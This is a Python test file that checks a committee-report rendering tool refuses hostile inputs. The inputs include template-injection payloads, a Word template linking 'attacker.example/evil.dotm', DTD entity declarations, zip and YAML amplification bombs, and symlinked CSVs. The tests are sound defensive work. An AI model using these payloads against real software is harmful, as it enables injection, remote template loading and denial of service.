"""The kinds an attack on the first security fix found: each hostile file is built here and
must be refused (exit 1, within the child's limits) or made harmless."""

from __future__ import annotations

import json
import os
import signal
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest

import committee_papers as cp
from committee_papers.loaders import LoadError
from committee_papers.output import OutputError

from .conftest import Q2, TEMPLATE, WORKBOOK, assert_refused, copy_sample, rewrite_zip, run_cli, snapshot

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
FOOTNOTES_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"


def _member(name: str, source: Path = TEMPLATE) -> bytes:
    with zipfile.ZipFile(source) as package:
        return package.read(name)


def _with_footnotes(tmp_path: Path, text: str) -> Path:
    """The template with a footnotes part holding ``text``, and two sections (docxtpl rendered
    footnotes once per section, and unescaped its own escapes after each pass)."""
    footnotes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}">'
                 f'<w:footnote w:id="1"><w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
                 "</w:footnote></w:footnotes>").encode()
    types = _member("[Content_Types].xml").replace(
        b"</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{FOOTNOTES_TYPE}"/></Types>'.encode())
    rels = _member("word/_rels/document.xml.rels").replace(
        b"</Relationships>", f'<Relationship Id="rIdFn" Type="{FOOTNOTES_REL}" Target="footnotes.xml"/>'
                             "</Relationships>".encode())
    body = _member("word/document.xml")
    start, end = body.index(b"<w:sectPr"), body.index(b"</w:sectPr>") + len(b"</w:sectPr>")
    section = body[start:end]
    body = body[:start] + b"<w:p><w:pPr>" + section + b"</w:pPr></w:p>" + body[start:]
    return rewrite_zip(TEMPLATE, tmp_path / "footnotes.docx",
                       {"[Content_Types].xml": types, "word/_rels/document.xml.rels": rels,
                        "word/document.xml": body}, extra={"word/footnotes.xml": footnotes})


@pytest.mark.parametrize("payload", ["A{_{ 7*7 }_}B", "{_% for a in range(3) %_}L{_% endfor %_}",
                                     "{_{ cycler }_}"])
def test_docxtpl_escapes_in_any_rendered_part_are_refused(tmp_path: Path, payload: str) -> None:
    template = _with_footnotes(tmp_path, payload)
    run = run_cli("render", Q2, "-o", tmp_path / "out", "--template", template)
    assert_refused(run, "word/footnotes.xml", "escaped template code")
    assert not (tmp_path / "out").exists()


def test_report_text_through_a_footnote_placeholder_is_written_once_as_text(tmp_path: Path) -> None:
    template = _with_footnotes(tmp_path, "{{ appendix }}")
    report = tmp_path / "inject.yaml"
    report.write_text(Q2.read_text(encoding="utf-8").replace(
        "appendix: App B – Q2 Exception Reports", "appendix: 'App {{ 7*7 }} {% for a in range(3) %}L{% endfor %}'"),
        encoding="utf-8")
    run = run_cli("render", report, "-o", tmp_path / "out", "--template", template, "--format", "docx")
    assert run.code == 0, str(run)
    footnotes = _member("word/footnotes.xml", tmp_path / "out" / "inject.docx").decode()
    assert "App {{ 7*7 }} {% for a in range(3) %}L{% endfor %}" in footnotes
    assert "49" not in footnotes and "LLL" not in footnotes


def test_a_flood_of_braces_is_refused_before_docxtpl_patches_it(tmp_path: Path) -> None:
    def change(document: Any) -> None:
        header = document.sections[0].header
        header.paragraphs[0].runs[0].text = "{{ appendix }}"
        for _ in range(600):
            header.add_paragraph().add_run("{{p x")
    document = docx.Document(str(TEMPLATE))
    change(document)
    template = tmp_path / "braces.docx"
    document.save(str(template))
    run = run_cli("render", Q2, "-o", tmp_path / "out", "--template", template)
    assert_refused(run, "braces in word/header", "COMMITTEE_PAPERS_MAX_PLACEHOLDERS")


def test_a_template_linking_an_outside_file_is_refused(tmp_path: Path) -> None:
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://attacker.example/evil.dotm" TargetMode="External"/></Relationships>')
    template = rewrite_zip(TEMPLATE, tmp_path / "remote.docx", {}, extra={"word/_rels/settings.xml.rels": rels})
    run = run_cli("render", Q2, "-o", tmp_path / "out", "--template", template)
    assert_refused(run, "http://attacker.example/evil.dotm", "attachedTemplate")


def test_an_xml_part_with_another_name_is_checked_as_xml(tmp_path: Path) -> None:
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><w:hdr xmlns:w="' + W.encode() + b'"/>'
    types = _member("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/word/theme/theme1.thm" ContentType="application/vnd.'
                     b'openxmlformats-officedocument.theme+xml"/></Types>')
    template = rewrite_zip(TEMPLATE, tmp_path / "named.docx", {"[Content_Types].xml": types},
                           extra={"word/theme/theme1.thm": evil})
    run = run_cli("render", Q2, "-o", tmp_path / "out", "--template", template)
    assert_refused(run, "word/theme/theme1.thm", "declares a DTD")


def test_many_middling_parts_that_inflate_far_are_refused(tmp_path: Path) -> None:
    extra = {f"junk/{n}.xml": b"<a>" + b" " * (150 * 1024) + b"</a>" for n in range(200)}
    template = rewrite_zip(TEMPLATE, tmp_path / "middling.docx", {}, extra=extra)
    run = run_cli("render", Q2, "-o", tmp_path / "out", "--template", template)
    assert_refused(run, "junk/", "inflates")


# ------------------------------------------------------------------------------ reports


def _aliased_text(tmp_path: Path) -> Path:
    text = "x" * 100_000
    lines = [f"note: &n '{text}'", "appendix: A", "sections:", "  - portfolio: P", "    pages:"]
    page = "      - {indicators: [{description: d, polarity: high}], commentary: [*n, *n, *n, *n, *n]}"
    path = tmp_path / "text.yaml"
    path.write_text("\n".join(lines + [page] * 60) + "\n", encoding="utf-8")
    return path


def _aliased_pages(tmp_path: Path) -> Path:
    lines = ["appendix: A", "sections:", "  - &s {portfolio: P, pages: &p [",
             *["      {indicators: [{description: d, polarity: high}], commentary: text}," for _ in range(10)],
             "    ]}"]
    lines += [f"  - {{portfolio: P{n}, pages: *p}}" for n in range(400)]
    path = tmp_path / "pages.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _flow_list(tmp_path: Path) -> Path:
    path = tmp_path / "flow.yaml"
    path.write_text("appendix: A\nsections: []\nx: [" + "1," * 1_500_000 + "1]\n", encoding="utf-8")
    return path


def _json_values(tmp_path: Path) -> Path:
    path = tmp_path / "values.json"
    path.write_text('{"appendix": "A", "sections": [], "x": [' + "1," * 1_500_000 + "1]}", encoding="utf-8")
    return path


@pytest.mark.parametrize(("build", "phrase"), [
    (_aliased_text, "repeat its text"), (_aliased_pages, "expand its"), (_flow_list, "more than 1,000,000 values"),
    (_json_values, "more than 1,000,000 values"),
])
def test_reports_that_amplify_are_refused(tmp_path: Path, build: Any, phrase: str) -> None:
    report = build(tmp_path)
    run = run_cli("render", report, "-o", tmp_path / "out", "--format", "pdf")
    assert_refused(run, phrase)


@pytest.mark.parametrize(("data", "phrase"), [
    ({"appendix": "A", "sections": [], "x": json.loads("[" * 500 + "]" * 500)}, "nest more than"),
    ({"appendix": "A", "sections": [{1: "x"}]}, "is not text"),
    ({"appendix": "A", "sections": [], "meeting_date": 10**5000}, "is not a date"),
])
def test_a_mapping_built_in_python_is_read_as_safely(data: dict[str, Any], phrase: str) -> None:
    with pytest.raises(LoadError, match=phrase):
        cp.load(data)


# ---------------------------------------------------------------------------- workbooks


def _folder(tmp_path: Path, **files: str) -> Path:
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "indicators.csv").write_text("id,portfolio,description,polarity,unit,target\nK,P,d,high,count,1\n",
                                           encoding="utf-8")
    (folder / "values.csv").write_text("indicator_id,period,value\nK,Q1 2016/17,1\n", encoding="utf-8")
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize(("files", "phrase"), [
    ({"commentary.csv": "indicator_id,commentary" + ",x" * 100_000 + "\n"}, "columns"),
    ({"commentary.csv": "indicator_id,commentary\n" + "\n" * 300_000}, "lines"),
])
def test_csv_files_are_bounded(tmp_path: Path, files: dict[str, str], phrase: str) -> None:
    run = run_cli("pack", _folder(tmp_path, **files), "-o", tmp_path / "out")
    assert_refused(run, "commentary.csv", phrase)


def test_a_csv_that_links_elsewhere_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("indicator_id,commentary\nK,secret_api_key=hunter2\n", encoding="utf-8")
    folder = _folder(tmp_path)
    (folder / "commentary.csv").symlink_to(secret)
    run = run_cli("pack", folder, "-o", tmp_path / "out")
    assert_refused(run, "commentary.csv", "link to another file")
    assert "hunter2" not in run.out + run.err


def test_formatted_cells_far_right_on_every_row_cost_nothing(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(WORKBOOK)
    sheet = book["values"]
    for row in range(2, 5000):
        sheet.cell(row=row, column=16000).number_format = "0.0"
    target = tmp_path / "formatted.xlsx"
    book.save(target)
    run = run_cli("pack", target, "-o", tmp_path / "out", "--format", "pdf")
    assert run.code == 0, str(run)


def test_a_damaged_shared_string_index_is_a_clear_error(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(WORKBOOK)
    book["values"]["A2"] = "a string"
    written = tmp_path / "strings.xlsx"
    book.save(written)
    with zipfile.ZipFile(written) as package:
        sheet = package.read("xl/worksheets/sheet2.xml")
    inline = b'<c r="A2" t="inlineStr"><is><t>a string</t></is></c>'
    assert inline in sheet
    # a shared-string cell pointing past the end of the shared strings
    damaged = rewrite_zip(written, tmp_path / "damaged.xlsx", {"xl/worksheets/sheet2.xml": sheet.replace(
        inline, b'<c r="A2" t="s"><v>99999</v></c>')})
    run = run_cli("pack", damaged, "-o", tmp_path / "out")
    assert_refused(run, "damaged")


# ------------------------------------------------------------------------------ outputs


def test_a_target_that_is_a_folder_stops_the_batch_before_anything_changes(tmp_path: Path) -> None:
    first, second = copy_sample(tmp_path, "a.yaml"), copy_sample(tmp_path, "b.yaml")
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.pdf").write_bytes(b"old a")
    (out / "b.pdf").mkdir()
    before = snapshot(out)
    run = run_cli("render", first, second, "-o", out)
    assert_refused(run, "is a folder")
    assert snapshot(out) == before


def test_other_ending_signals_also_clean_up(tmp_path: Path) -> None:
    import yaml

    data = yaml.safe_load(Q2.read_text(encoding="utf-8"))
    data["sections"][0]["pages"] = data["sections"][0]["pages"] * 200

    class Plain(yaml.SafeDumper):
        def ignore_aliases(self, data: Any) -> bool:
            return True

    report = tmp_path / "big.yaml"
    report.write_text(yaml.dump(data, Dumper=Plain, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    seen: list[str] = []

    def writing() -> bool:
        seen.extend(p.name for p in out.glob(".*.part"))
        return bool(seen)

    run = run_cli("render", report, "-o", out, signal_when=(writing, signal.SIGHUP), cpu_seconds=120)
    assert seen and run.code == 128 + signal.SIGHUP, str(run)
    assert list(out.iterdir()) == []


def test_the_api_refuses_to_replace_what_is_not_an_output(tmp_path: Path, q2_report: cp.Report) -> None:
    target = tmp_path / "link.pdf"
    target.symlink_to(tmp_path / "elsewhere.pdf")
    with pytest.raises(OutputError, match="is a link"):
        cp.render_pdf(q2_report, target)
    fifo = tmp_path / "pipe.pdf"
    os.mkfifo(fifo)
    with pytest.raises(OutputError, match="device or pipe"):
        cp.render_pdf(q2_report, fifo)
    template = tmp_path / "mine.docx"
    template.write_bytes(TEMPLATE.read_bytes())
    with pytest.raises(OutputError, match="would overwrite the input"):
        cp.render_docx(q2_report, template, template=template)
    assert template.read_bytes() == TEMPLATE.read_bytes()
